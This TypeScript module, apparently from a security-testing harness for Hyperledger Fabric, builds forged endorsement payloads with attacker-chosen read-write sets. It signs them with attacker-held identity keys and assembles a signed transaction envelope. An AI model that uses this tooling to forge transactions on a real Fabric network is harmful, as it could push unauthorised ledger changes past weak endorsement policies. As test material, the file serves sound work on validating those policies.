import { common, peer } from '@hyperledger/fabric-protos';

import { type AttackerIdentity, serializeIdentity } from './identities';
import { signLowS } from './low-s-signature';
import type { HandMadeProposal } from './proposal';

/** What the attacker claims the chaincode did: the rwset, and the chaincode's name and version. */
export interface ForgedResult {
    /** `rwset.TxReadWriteSet` bytes (see rwset.ts). */
    results: Uint8Array;
    /** The chaincode ID an honest endorser puts in its `ChaincodeAction` (name and version). */
    chaincodeId: peer.ChaincodeID;
    /** The payload of the chaincode's response; empty by default. */
    responsePayload?: Uint8Array;
}

/**
 * The `ProposalResponsePayload` an endorser would sign for this proposal, with the attacker's
 * results: the proposal hash and a `ChaincodeAction` with status 200.
 */
export function forgeResponsePayload(proposal: HandMadeProposal, result: ForgedResult): Uint8Array {
    const response = new peer.Response();
    response.setStatus(200);
    response.setPayload(result.responsePayload ?? new Uint8Array());
    const action = new peer.ChaincodeAction();
    action.setResults(result.results);
    action.setResponse(response);
    action.setChaincodeId(result.chaincodeId);
    const payload = new peer.ProposalResponsePayload();
    payload.setProposalHash(proposal.proposalHash);
    payload.setExtension$(action.serializeBinary());
    return payload.serializeBinary();
}

/** An endorsement as a peer makes it: the signer's identity and its signature over payload ‖ endorser. */
export function endorse(signer: AttackerIdentity, responsePayload: Uint8Array): peer.Endorsement {
    const endorser = serializeIdentity(signer);
    const endorsement = new peer.Endorsement();
    endorsement.setEndorser(endorser);
    endorsement.setSignature(signLowS(signer.privateKey, Buffer.concat([responsePayload, endorser])));
    return endorsement;
}

/**
 * The transaction envelope of a proposal: one action carrying the proposal payload (transient
 * map stripped), the response payload and the endorsements, signed by the creator.
 */
export function assembleEnvelope(
    proposal: HandMadeProposal,
    creator: AttackerIdentity,
    responsePayload: Uint8Array,
    endorsements: peer.Endorsement[],
): common.Envelope {
    const endorsedAction = new peer.ChaincodeEndorsedAction();
    endorsedAction.setProposalResponsePayload(responsePayload);
    endorsedAction.setEndorsementsList(endorsements);
    const actionPayload = new peer.ChaincodeActionPayload();
    actionPayload.setChaincodeProposalPayload(proposal.proposalPayloadForEnvelope);
    actionPayload.setAction(endorsedAction);
    const action = new peer.TransactionAction();
    action.setHeader(proposal.signatureHeader);
    action.setPayload(actionPayload.serializeBinary());
    const transaction = new peer.Transaction();
    transaction.setActionsList([action]);

    const header = new common.Header();
    header.setChannelHeader(proposal.channelHeader);
    header.setSignatureHeader(proposal.signatureHeader);
    const payload = new common.Payload();
    payload.setHeader(header);
    payload.setData(transaction.serializeBinary());
    const payloadBytes = payload.serializeBinary();

    const envelope = new common.Envelope();
    envelope.setPayload(payloadBytes);
    envelope.setSignature(signLowS(creator.privateKey, payloadBytes));
    return envelope;
}
